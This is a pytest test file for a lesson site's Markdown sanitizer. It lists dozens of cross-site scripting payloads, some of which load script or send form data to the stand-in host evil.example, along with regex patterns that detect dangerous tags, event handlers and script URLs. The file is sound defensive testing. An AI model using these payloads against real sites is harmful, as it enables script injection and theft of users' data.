"""Lesson Markdown is written by instructors and shown to every learner: nothing in it may run."""

from __future__ import annotations

import re

import pytest

from lessons.markdown import render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "![x](javascript:alert(1))",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<body onload="alert(1)">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;inset:0">cover</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=p></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<input autofocus onfocus="alert(1)">',
    "`<script>alert(1)</script>` and\n\n    <script>alert(2)</script>",
]

DANGEROUS_TAG = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|meta|base|link|style|svg|math|body)\b", re.I
)
EVENT_HANDLER = re.compile(r"<[^>]*\son\w+\s*=", re.I)
STYLE_ATTRIBUTE = re.compile(r"<[^>]*\sstyle\s*=", re.I)
BAD_URL = re.compile(
    r"""(href|src|action|srcdoc)\s*=\s*["']?\s*(javascript|data|vbscript):""", re.I
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_the_markdown_renderer(payload):
    html = str(render_markdown(payload))
    assert not DANGEROUS_TAG.search(html), html
    assert not EVENT_HANDLER.search(html), html
    assert not STYLE_ATTRIBUTE.search(html), html
    assert not BAD_URL.search(html), html
    assert "javascript:" not in html.lower().replace("&#", ""), html


def test_code_that_shows_a_script_tag_is_shown_as_text():
    html = str(render_markdown("Never write `<script>` in a lesson."))
    assert "&lt;script&gt;" in html


def test_an_ordinary_link_survives():
    html = str(render_markdown("Read [the docs](https://example.com/a)."))
    assert 'href="https://example.com/a"' in html


# -- images: the site's own files only (lessons/markdown_images.py, docs/lesson-files.md) ------


@pytest.mark.parametrize(
    "src", ["/static/lessons/lan.svg", "img/lan.png", "../shared/lan.png", "lan.svg?v=2"]
)
def test_an_image_from_the_site_itself_renders_with_its_alt_text(src):
    html = str(render_markdown(f'A switch: ![Two hosts on one switch]({src} "LAN")'))
    assert f'<img alt="Two hosts on one switch" src="{src}" title="LAN">' in html


def test_an_image_keeps_its_alt_text_escaped():
    html = str(render_markdown('!["onerror=alert(1) <b>x</b>](/static/a.png)'))
    assert '<img alt="&quot;onerror=alert(1) &lt;b&gt;x&lt;/b&gt;" src="/static/a.png">' in html


@pytest.mark.parametrize(
    "src",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "jav&#x61;script:alert(1)",
        "data:image/png;base64,iVBORw0KGgo=",
        "vbscript:msgbox(1)",
        "/\\evil.example/x.png",
    ],
)
def test_an_image_with_a_script_or_data_source_is_removed_and_its_alt_text_kept(src):
    html = str(render_markdown(f"before ![the diagram]({src}) after"))
    assert "src=" not in html
    assert "the diagram" in html
    assert "javascript" not in html.lower() and "data:" not in html and "evil" not in html


@pytest.mark.parametrize(
    "src", ["https://evil.example/x.png", "http://evil.example/x.png", "//evil.example/x.png"]
)
def test_an_image_from_another_site_becomes_a_link_named_by_its_alt_text(src):
    html = str(render_markdown(f"See ![the topology]({src}) here."))
    assert "<img" not in html
    assert f'<a href="{src}" rel="noopener noreferrer">the topology</a>' in html


def test_an_external_image_inside_a_link_leaves_the_link_with_the_alt_text():
    html = str(render_markdown("[![build status](https://ci.example/b.svg)](https://ci.example/)"))
    assert html == '<p><a href="https://ci.example/" rel="noopener noreferrer">build status</a></p>'


@pytest.mark.parametrize(
    "tag",
    [
        '<img src="https://evil.example/x.png" alt="raw">',
        '<img src="javascript:alert(1)" alt="raw">',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="raw">',
    ],
)
def test_a_raw_html_image_keeps_no_foreign_source(tag):
    html = str(render_markdown(tag))
    assert "src=" not in html and 'alt="raw"' in html


def test_a_raw_html_image_of_the_site_itself_is_kept():
    html = str(render_markdown('<img src="/static/a.png" alt="raw" onerror="alert(1)">'))
    assert '<img src="/static/a.png" alt="raw">' in html
